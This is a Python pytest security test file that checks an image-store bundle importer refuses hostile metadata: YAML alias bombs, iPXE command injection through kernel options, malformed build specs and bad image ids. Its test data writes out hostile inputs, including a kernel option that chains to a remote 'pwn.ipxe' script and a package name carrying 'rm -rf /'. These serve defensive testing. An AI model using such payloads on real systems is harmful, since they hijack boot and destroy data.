"""Hostile metadata.yaml in a bundle (issue 11): alias bombs, kernel options that inject
iPXE commands, specs that are not build specs, ids with a trailing newline."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from store_helpers import (
    Member,
    artifact_bytes,
    image_members,
    make_metadata,
    member,
    snapshot,
    store_fixture,  # noqa: F401  (provides the `store` fixture)
    tmp_entries,
    write_tar,
)

from livestrap.errors import ArchiveError, StoreError
from livestrap.store.bundle import import_image
from livestrap.store.images import ImageStore
from livestrap.store.manifest import METADATA, dump_metadata, parse_metadata

pytestmark = [pytest.mark.unit, pytest.mark.security]


def _with_metadata_text(image_id: str, text: str) -> list[Member]:
    members = image_members(image_id)
    return [member(f"{image_id}/{METADATA}", text.encode()), *members[1:]]


def _refused(store: ImageStore, tmp_path: Path, members: list[Member], message: str) -> None:
    before = snapshot(store)
    with pytest.raises(ArchiveError, match=message):
        import_image(store, write_tar(tmp_path / "evil.tar", members))
    assert snapshot(store) == before
    assert tmp_entries(store) == []


def _good_text(image_id: str = "img1", **changes: object) -> str:
    meta = make_metadata(image_id, artifact_bytes(image_id)).model_copy(update=changes)
    return dump_metadata(meta)


def test_alias_bomb_refused(store: ImageStore, tmp_path: Path) -> None:
    """~900 bytes that expand to 10**9 strings once walked (old code: 302 MB answers)."""
    lines = ['  l0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"  l{i}: &a{i} [{','.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]
    text = _good_text().replace("spec:\n  suite: bookworm\n", "spec:\n" + "\n".join(lines) + "\n")
    assert len(text) < 2000 and "*a7" in text
    started = time.monotonic()
    _refused(store, tmp_path, _with_metadata_text("img1", text), "anchors and aliases")
    assert time.monotonic() - started < 2


def test_harmless_alias_refused_too(store: ImageStore, tmp_path: Path) -> None:
    text = _good_text().replace("label: label img1", "label: &l label img1")
    text = text.replace("builder: livestrap 0.1.0", "builder: *l")
    _refused(store, tmp_path, _with_metadata_text("img1", text), "anchors and aliases")


@pytest.mark.parametrize(
    "cmdline",
    [
        ["console=ttyS0,115200n8 && chain http://198.51.100.1/pwn.ipxe #"],
        ["a=1||chain"],
        ["a=1;b"],
        ["a=${x}"],
        ["quiet\n"],
        ['a="b"'],
    ],
)
def test_kernel_cmdline_injection_refused(
    store: ImageStore, tmp_path: Path, cmdline: list[str]
) -> None:
    text = _good_text(kernel_cmdline=["console=ttyS0"]).replace(
        "kernel_cmdline:\n- console=ttyS0\n", "kernel_cmdline: " + _flow(cmdline) + "\n"
    )
    assert parse_metadata_fails(text)
    _refused(store, tmp_path, _with_metadata_text("img1", text), "kernel options")


def _flow(items: list[str]) -> str:
    return json.dumps(items)


def parse_metadata_fails(text: str) -> bool:
    try:
        parse_metadata(text)
    except StoreError:
        return True
    return False


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ('{"suite": "bookworm", "evil": 1}', "spec.evil"),
        ('{"packages": ["bash; rm -rf /"]}', "malformed package"),
        ('{"kernel_options": ["a=1;chain"]}', "kernel options"),
        ('{"mirror": "gopher://x"}', "mirror"),
        ('["not", "a", "mapping"]', "spec"),
    ],
)
def test_spec_must_be_a_build_spec(
    store: ImageStore, tmp_path: Path, spec: str, message: str
) -> None:
    text = _good_text().replace("spec:\n  suite: bookworm\n", f"spec: {spec}\n")
    _refused(store, tmp_path, _with_metadata_text("img1", text), message)


def test_spec_paths_of_the_building_host_need_not_exist_here(
    store: ImageStore, tmp_path: Path
) -> None:
    spec = {
        "suite": "bookworm",
        "mirror": "http://deb.example/debian",
        "mirror_key": "/nonexistent/archive.gpg",
        "extra_dirs": ["/nonexistent/overlay"],
        "scripts": ["/nonexistent/setup.sh"],
        "repos": [
            {"name": "acme", "uri": "http://a.example", "suite": "s", "key": "/nonexistent/k"}
        ],
        "kernel_options": ["quiet"],
    }
    files = artifact_bytes("img1")
    meta = make_metadata("img1", files).model_copy(update={"spec": spec})
    imported = import_image(store, write_tar(tmp_path / "ok.tar", image_members("img1", meta)))
    assert imported.spec == spec  # recorded as written, not resolved against this host
    assert store.get("img1").spec == spec


@pytest.mark.parametrize("image_id", ["nl\n", "img1\n"])
def test_image_id_with_trailing_newline_refused(
    store: ImageStore, tmp_path: Path, image_id: str
) -> None:
    members = [(info, data) for info, data in image_members("img1")]
    renamed = [member(info.name.replace("img1", image_id, 1), data) for info, data in members]
    _refused(store, tmp_path, renamed, "not a valid image id")
    text = _good_text().replace("id: img1", f"id: {json.dumps(image_id)}")
    with pytest.raises(StoreError, match="invalid image id"):
        parse_metadata(text)


def test_oversized_metadata_text_refused() -> None:
    with pytest.raises(StoreError, match="larger than"):
        parse_metadata("a: b\n" * 300_000)


def test_written_metadata_has_no_aliases() -> None:
    """dump_metadata must never write what parse_metadata refuses (shared objects)."""
    shared = ["quiet"]
    meta = make_metadata("img1", artifact_bytes("img1")).model_copy(
        update={"kernel_cmdline": shared, "spec": {"kernel_options": shared}}
    )
    text = dump_metadata(meta)
    assert "&" not in text and "*" not in text
    assert parse_metadata(text) == meta
